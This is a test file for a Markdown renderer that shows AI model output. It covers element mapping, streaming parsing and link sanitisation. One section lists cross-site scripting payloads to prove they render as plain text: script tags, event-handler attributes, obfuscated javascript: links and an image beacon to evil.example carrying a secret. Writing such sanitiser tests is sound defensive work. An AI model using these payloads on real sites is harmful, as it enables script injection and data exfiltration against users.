/** Text of models as elements: what Markdown it has, and that nothing in it becomes more than text. */
import type { VNode } from "preact";
import { describe, expect, it } from "vitest";
import { GrowingText } from "./growing-text.ts";
import { safeLink } from "./links.ts";
import { elementsOf } from "./markdown.tsx";

interface Found {
  readonly name: string;
  readonly props: Readonly<Record<string, unknown>>;
}

function isNode(value: unknown): value is VNode<Record<string, unknown>> {
  return typeof value === "object" && value !== null && "type" in value && "props" in value;
}

/** Every element of a tree, and its text. Components are named, not drawn. */
function read(tree: unknown, found: Found[]): string {
  if (Array.isArray(tree)) return tree.map((one) => read(one, found)).join("");
  if (!isNode(tree))
    return typeof tree === "string" || typeof tree === "number" ? String(tree) : "";
  const { children, ...props } = tree.props;
  const { type } = tree;
  found.push({ name: typeof type === "string" ? type : type.name, props });
  return read(children, found);
}

function drawn(text: string): { readonly text: string; readonly elements: readonly Found[] } {
  const elements: Found[] = [];
  return { text: read(elementsOf(text), elements), elements };
}

const names = (text: string): readonly string[] => drawn(text).elements.map(({ name }) => name);

describe("Markdown", () => {
  it.each([
    ["# A\n\ntext", ["h3", "p"]],
    ["**a** *b* ~~c~~ `d`", ["p", "strong", "em", "del", "code"]],
    ["- a\n- b", ["ul", "li", "li"]],
    ["3. a", ["ol", "li"]],
    ["- [x] a", ["ul", "li", "input"]],
    ["> a", ["blockquote", "p"]],
    ["| a |\n|---|\n| b |", ["div", "table", "thead", "tr", "th", "tbody", "tr", "td"]],
    ["```js\nlet a\n```", ["CodeBlock"]],
    ["```js\nlet a", ["CodeBlock"]],
    ["$$a^2$$", ["Maths"]],
    ["\\[a\\]", ["Maths"]],
    ["is $x$ or \\(y\\)", ["p", "Maths", "Maths"]],
    ["costs $5 and $6", ["p"]],
    ["[a](https://example.org)", ["p", "a"]],
    ["https://example.org", ["p", "a"]],
    ["a  \nb", ["p", "br"]],
    ["a\nb", ["p", "br"]],
  ])("%j", (text, expected) => {
    expect(names(text)).toEqual(expected);
  });

  it("has the characters that entities stand for, once", () => {
    expect(drawn("a &lt;b&gt; &amp;amp; &#65;&#x42; &nope;").text).toBe("a <b> &amp; AB &nope;");
    expect(drawn("`&lt;`").text).toBe("&lt;");
  });

  it("gives formulas as they were written", () => {
    const [, maths] = drawn("\\(a_b * c_d\\)").elements;
    expect(maths?.props).toMatchObject({ tex: "a_b * c_d", isBlock: false });
  });
});

describe("a text that grows", () => {
  const whole = [
    "# A\n\npara *graph*\nSetext\n===\n\n- a\n\n- b\n  - c\n\n\n1. d\n\n```ts\nlet x\n\n\n- no list\n```\n",
    "> q\n> r\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$$\na\n\nb\n$$\n\nlast **word** \\(x\\) end\n\n---\n\ntext\n---\n",
  ].join("\n");

  it("has the blocks that it has when it is read at once, at every length", () => {
    for (const step of [1, 7, 40]) {
      const growing = new GrowingText();
      for (let length = 0; length <= whole.length; length += step) {
        const text = whole.slice(0, length);
        const raws = (blocks: readonly { raw: string; type: string }[]): readonly string[] =>
          blocks.map(({ raw, type }) => `${type} ${raw}`);
        expect(raws(growing.blocks(text)), `${length}`).toEqual(
          raws(new GrowingText().blocks(text)),
        );
      }
    }
  });

  it("may become another one, and have any line breaks", () => {
    const growing = new GrowingText();
    growing.blocks("a\n\nb\n\nc\n\nd\n\ne");
    expect(growing.blocks("x\n\ny").map(({ raw }) => raw)).toEqual(["x", "\n\n", "y"]);
    const windows = "a\r\n\r\nb\r\n\r\nc\r\n\r\nd\r\n\r\n";
    growing.blocks(windows);
    expect(growing.blocks(`${windows}e`).filter(({ type }) => type === "paragraph")).toHaveLength(
      5,
    );
  });

  it("keeps what is settled", () => {
    const growing = new GrowingText();
    const [first] = growing.blocks("a\n\nb\n\nc\n\nd");
    expect(growing.blocks("a\n\nb\n\nc\n\nd e")[0]).toBe(first);
  });
});

/** Made of ways in which others' pages were broken. */
const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "a <svg/onload=alert(1)> b",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\tscript:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](\u0001javascript:alert(1))",
  "[a](vbscript:x)",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](/v1/models)",
  "[a](//evil.example)",
  "<javascript:alert(1)>",
  "![beacon](https://evil.example/a.png?secret)",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  '![x](x" onerror="alert(1))',
  "[a]: javascript:alert(1)\n\n[a]",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "`</code><script>alert(1)</script>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)> |",
  "<style>*{display:none}</style>",
  "<a href='javascript:alert(1)'>a</a>",
  "$\\href{javascript:alert(1)}{x}$",
];

const allowed = new Set(
  "p h3 h4 h5 h6 ul ol li strong em del code br hr blockquote div table thead tbody tr th td a CodeBlock Maths".split(
    " ",
  ),
);

describe("hostile text", () => {
  it.each(attacks)("%j is text", (attack) => {
    const { elements } = drawn(attack);
    for (const { name, props } of elements) {
      expect(allowed, name).toContain(name);
      const handlers = Object.keys(props).filter((key) => /^on|innerHTML|style|src/i.test(key));
      expect(handlers).toEqual([]);
      if (name === "a") expect(String(props["href"])).toMatch(/^https:\/\/evil\.example\//);
    }
  });

  it("keeps raw HTML readable", () => {
    expect(drawn("a <b>c</b>").text).toBe("a <b>c</b>");
    expect(drawn("<div>\nd\n</div>").text).toContain("<div>\nd\n</div>");
  });

  it("links to the web and to mail alone", () => {
    expect(safeLink("https://a.example/b?c")).toBe("https://a.example/b?c");
    expect(safeLink("mailto:a@b.example")).toBe("mailto:a@b.example");
    for (const address of ["file:///etc/passwd", "blob:x", "about:blank", "x", "", "intent:x"])
      expect(safeLink(address), address).toBeUndefined();
  });
});
